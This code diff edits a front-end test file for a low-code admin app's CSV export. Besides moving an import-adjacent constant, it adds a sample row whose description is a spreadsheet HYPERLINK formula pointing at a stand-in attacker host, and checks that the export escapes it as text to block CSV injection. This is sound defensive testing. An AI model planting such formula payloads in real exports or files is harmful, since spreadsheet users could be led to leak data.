@@ -9,11 +9,11 @@ import userEvent from '@testing-library/user-event';
 import { describe, expect, it, vi } from 'vitest';
 import type { ResourceRoute } from '../../../src/config/routes';
 import { appRoutes } from '../../../src/instance';
-
-const findRoute = appRoutes.findRoute;
 import { lowcodeConfig, tombGateRoute } from '../../server/lowcodeConfig';
 import { memoryDataProvider } from './memoryDataProvider';
 import { renderResource } from './renderResource';
+
+const findRoute = appRoutes.findRoute;
 
 // Whole react-admin screens render here; a shared 2-core machine needs more than the default 30 s.
 vi.setConfig({ testTimeout: 90_000 });
@@ -22,7 +22,7 @@ const areas = findRoute('/tomb/tombList') as ResourceRoute;
 const rows = () => ({
   'tomb/tombList': [
     { id: 1, version: 1, name: 'North', code: 'N', sort: 1, manager_phone: '13800001111' },
-    { id: 2, version: 1, name: 'South', code: 'S', sort: 2, manager_phone: null },
+    { id: 2, version: 1, name: 'South', code: 'S', sort: 2, manager_phone: null, description: '=HYPERLINK("http://evil.example/?leak","Click")' },
   ],
 });
 
@@ -53,6 +53,8 @@ describe('a field added in the config', () => {
     });
     expect(csv.split('\r\n')[0]).toBe('\ufeffID,Name,Code,Sort order,Image,Description,Manager phone');
     expect(csv).toContain('1,North,N,1,,,13800001111');
+    // A remark a spreadsheet would run as a formula is written as text (CSV injection).
+    expect(csv).toContain(`2,South,S,2,,"'=HYPERLINK(""http://evil.example/?leak"",""Click"")",`);
   });
 
   it('is a form input validated with the config rule', async () => {
